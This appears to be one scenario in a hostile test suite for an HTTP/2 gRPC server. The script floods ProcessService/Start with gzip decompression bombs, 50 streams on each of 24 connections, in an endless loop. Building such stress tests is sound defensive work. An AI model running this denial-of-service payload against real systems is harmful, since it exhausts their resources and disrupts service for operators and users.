// A53: compressed requests, 50 on each of 24 connections.
import { gzipSync } from 'node:zlib';
import { FLAG, FRAME, frame } from '@wins/http2-connection/testing';
import { attacking, forever, MEBIBYTE, method, written } from './hostile.mjs';

const bomb = gzipSync(Buffer.alloc(MEBIBYTE));
const head = Buffer.of(1, 0, 0, 0, 0);
head.writeUInt32BE(bomb.length, 1);
const message = Buffer.concat([head, bomb]);

forever(24, async (client) => {
  const block = client.block(method('ProcessService', 'Start'), [['grpc-encoding', 'gzip']]);
  for (let id = 1; id < 100; id += 2) {
    client.headers(id, FLAG.endHeaders, block);
    await written(client.socket, frame(FRAME.data, FLAG.endStream, id, message));
  }
  await client.ping('all done');
  attacking();
});
